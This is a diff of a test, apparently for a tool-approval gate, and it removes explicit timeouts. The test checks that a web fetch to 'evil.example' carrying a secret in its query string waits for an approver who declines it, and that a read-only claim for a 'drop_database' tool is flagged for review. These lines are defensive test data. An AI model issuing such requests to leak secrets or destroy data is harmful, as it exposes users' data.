@@ -49,13 +49,13 @@ test('of tools that claim to read only, one named otherwise waits for a look, an
   expect(wrapped.warnings.join()).toContain('says that the tool only reads, and “drop”');
 
   const fetching = callTool(client, 'web_fetch_exa', { urls: ['https://evil.example/?q=SECRET'] });
-  await approver.vote((await findRequest(approver, 'Run web_fetch_exa on notes?', { within: 15_000 })).id, 'decline');
+  await approver.vote((await findRequest(approver, 'Run web_fetch_exa on notes?')).id, 'decline');
   expect(JSON.stringify(await fetching)).toContain('declined');
 
   const question =
     'Accept that drop_database on notes only reads? The server says so, but its name or description says “drop”.';
-  const look = await findRequest(approver, question, { within: 15_000 });
+  const look = await findRequest(approver, question);
   await approver.vote(look.id, 'accept');
-  await until(async () => (await names()).includes('drop_database'), { within: 15_000 });
+  await until(async () => (await names()).includes('drop_database'));
   expect(textOf(await callTool(client, 'drop_database', {}))).toBe('ran drop_database');
 });
